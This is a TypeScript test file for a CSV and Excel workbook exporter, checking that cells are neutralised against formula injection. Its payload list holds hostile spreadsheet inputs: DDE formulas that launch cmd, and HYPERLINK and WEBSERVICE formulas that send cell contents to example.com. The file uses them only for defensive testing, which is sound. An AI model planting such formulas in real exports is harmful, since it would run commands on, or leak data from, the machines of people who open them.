import ExcelJs from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { type TextSheet, writeXlsx } from '#main/documents/write-xlsx.ts';
import { csvRow } from '#shared/documents/csv.ts';
import { openBytes, readRows } from '#test/import/open-test-list.ts';

/** What a hostile list puts into a cell, and the cell that must come out. */
const payloads: readonly (readonly [text: string, cell: string])[] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1,1)', "'@SUM(1,1)"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://example.com?x="&A1,"Klicka")', `'=HYPERLINK("http://example.com?x="&A1,"Klicka")`],
  ['=WEBSERVICE("http://example.com/"&A1)', `'=WEBSERVICE("http://example.com/"&A1)`],
  ['=IMPORTXML("http://example.com","//a")', `'=IMPORTXML("http://example.com","//a")`],
  ['=DDE("cmd";"/C calc";"")', `'=DDE("cmd";"/C calc";"")`],
  ["=MSEXCEL|'\\..\\cmd.exe'!''", "'=MSEXCEL|'\\..\\cmd.exe'!''"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['\ttext', "'\ttext"],
  ['\rtext', "'\rtext"],
  ['\ntext', "'\ntext"],
  [' =1+1', "' =1+1"],
  ['\u00A0=1+1', "'\u00A0=1+1"],
  ['\u200B=1+1', "'\u200B=1+1"],
  ['\uFEFF=1+1', "'\uFEFF=1+1"],
  ['"=1+1"', `'"'=1+1"`],
  ["'=1+1", "''=1+1"],
  [';=1+1', "';'=1+1"],
  [',=1+1', "','=1+1"],
  ['text;=1+1;', "text;'=1+1;"],
  ['text",=1+1,"', `text",'=1+1,"`],
  ['text, @SUM(1,1)', "text, '@SUM(1,1)"],
  ['text\t+1+1', "text\t'+1+1"],
  ['rad\r\n=1+1,', "rad\r\n'=1+1,"],
  ['＝1+1', "'＝1+1"],
  ['＋1+1', "'＋1+1"],
  ['－1+1', "'－1+1"],
  ['＠SUM(1,1)', "'＠SUM(1,1)"],
];

/** Text that no spreadsheet runs. */
const harmless = [
  'Anna Berg',
  'anna@bolaget.se',
  '070-123 45 67',
  '0701234567',
  'Ring mån-fre, a-kassan',
  'Bolaget (a+b=c)',
  'vx; anna@bolaget.se',
  '',
];

const texts = payloads.map(([text]) => text);

/** The cells of a row of text, as a reader finds them that keeps to the quotes. */
const cellsOf = (csv: string, delimiter: string): string[] =>
  Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { delimiter, newline: '\r\n' }).data.flat();

describe('a cell of a CSV file', () => {
  it.each(payloads)('begins with an apostrophe where a spreadsheet would run it: %j', (text, cell) => {
    expect(csvRow([text])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`);
    expect(cellsOf(csvRow(['före', text, 'efter']), ';')).toEqual(['före', cell, 'efter']);
  });

  it.each(harmless)('is left alone where no spreadsheet runs it: %j', (text) => {
    expect(csvRow([text])).toBe(`"${text}"\r\n`);
  });

  it('stays inert wherever a program cuts the line', () => {
    const sign = fc.constantFrom(...Array.from('=+-@＝＋－＠;,|\t\r\n"\' \u00A0\u200Bab1'));
    const cell = fc.array(sign, { maxLength: 12 }).map((signs) => signs.join(''));
    const piece = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
        // The worst of readers: every separator cuts, and quotes protect nothing.
        const pieces = csvRow(cells).split(/[;,|\t\r\n]/);
        expect(pieces.filter((one) => piece.test(one))).toEqual([]);
      }),
      { numRuns: 5000 },
    );
  });
});

/** A workbook as it comes to stand on the disk. */
async function bytesOf(sheet: TextSheet): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of writeXlsx(sheet)) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** What exceljs makes of a workbook: the kind and the text of every cell, and how it is formatted. */
async function readWorkbook(bytes: Uint8Array) {
  const workbook = new ExcelJs.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const [sheet] = workbook.worksheets;
  if (!sheet) throw new Error('no sheet');
  const cells: { text: unknown; isText: boolean; format: string | undefined; isBold: boolean }[] = [];
  sheet.eachRow((row) => {
    row.eachCell((cell) => {
      const isText = cell.type === ExcelJs.ValueType.String;
      cells.push({ text: cell.value, isText, format: cell.numFmt, isBold: cell.font?.bold === true });
    });
  });
  return { sheet, cells };
}

const columns = [{ title: 'Namn' }, { title: 'Not' }];

describe('a cell of a workbook', () => {
  it('is text by specification, whatever it looks like', async () => {
    const rows = texts.map((text) => [text, `x${text}`]);
    const { cells } = await readWorkbook(await bytesOf({ name: 'Lista', columns, rows }));
    expect(cells.length).toBe(2 + 2 * texts.length);
    expect(cells.filter(({ isText }) => !isText)).toEqual([]);
    // Text format: it stays text when somebody edits the cell.
    expect(new Set(cells.map(({ format }) => format))).toEqual(new Set(['@']));
    const said = texts.flatMap((text) => [text, `x${text}`]).map((text) => text.replace(/\r\n?/g, '\n'));
    expect(cells.slice(2).map(({ text }) => text)).toEqual(said);
  });

  it('comes back as it was written', async () => {
    const written = [
      '0701234567',
      '+46701234567',
      '070-123 45 67',
      '00123',
      '7,01234567E8',
      '2026-11-23',
      '556677-8899',
      'SANT',
      '_x0041_',
      '__proto__',
      'constructor',
      'toString',
      ' blank on both sides ',
      'å ä ö € 😀',
      '<b>&amp;"\'',
      'two\nlines',
      'a\ttab',
    ].map((text) => [text, text]);
    const reader = await openBytes(await bytesOf({ name: 'Lista', columns, rows: written }));
    expect(await readRows(reader)).toEqual(written);
  });

  it('shows a mark for what no file of this kind can hold', async () => {
    const rows = [['a\u0001b', 'a\uD800b']];
    const reader = await openBytes(await bytesOf({ name: 'Lista', columns, rows }));
    expect(await readRows(reader)).toEqual([['a\uFFFDb', 'a\uFFFDb']]);
  });
});

describe('a workbook', () => {
  it('has its titles in bold and in sight', async () => {
    const bytes = await bytesOf({ name: 'Lista', columns, rows: [['Anna', '']] });
    const { sheet, cells } = await readWorkbook(bytes);
    expect(cells.map(({ text, isBold }) => [text, isBold])).toEqual([
      ['Namn', true],
      ['Not', true],
      ['Anna', false],
    ]);
    expect(sheet.views).toMatchObject([{ state: 'frozen', ySplit: 1 }]);
  });

  it.each([
    ['Får användas', 'Får användas'],
    ["'Bolaget' [2026]: a/b\\c?*", "Bolaget' 2026 a b c"],
    ['   ', '1'],
    ['Ett mycket långt namn som inget kalkylprogram tar emot', 'Ett mycket långt namn som inget'],
    ['<Blad> & "namn"', '<Blad> & "namn"'],
  ])('calls its sheet what a spreadsheet takes: %j', async (name, taken) => {
    const { sheet } = await readWorkbook(await bytesOf({ name, columns, rows: [] }));
    expect(sheet.name).toBe(taken);
  });

  it('has wide rows where they belong', async () => {
    const wide = Array.from({ length: 60 }, (_, index) => `k${index}`);
    const bytes = await bytesOf({ name: 'Lista', columns: wide.map((title) => ({ title })), rows: [wide] });
    const reader = await openBytes(bytes, { choices: { headerRecord: 0 } });
    expect(reader.facts().columns).toEqual(wide);
    expect(await readRows(reader)).toEqual([wide]);
  });

  it('is the same, byte for byte, for the same rows', async () => {
    const write = () => bytesOf({ name: 'Lista', columns, rows: texts.map((text) => [text]) });
    expect(Buffer.from(await write()).equals(await write())).toBe(true);
  });

  it('is handed over while its rows are still being made, and asks for no more rows than are taken', async () => {
    let made = 0;
    function* rows() {
      for (; made < 100_000; made += 1) yield [crypto.randomUUID(), crypto.randomUUID()];
    }
    const pieces = writeXlsx({ name: 'Lista', columns, rows: rows() })[Symbol.asyncIterator]();
    for (let piece = 0; piece < 40; piece += 1) expect((await pieces.next()).done).toBe(false);
    await pieces.return?.();
    expect(made).toBeGreaterThan(0);
    expect(made).toBeLessThan(20_000);
  });

  it('holds as many rows as were given, for a reader that is not ours', async () => {
    const rows = Array.from({ length: 3000 }, (_, index) => [`Person ${index}`, `=${index}+1`]);
    const bytes = await bytesOf({ name: 'Lista', columns, rows });
    const [sheet] = await readExcelFile(bytes);
    expect(sheet?.data).toEqual([['Namn', 'Not'], ...rows]);
  });
});
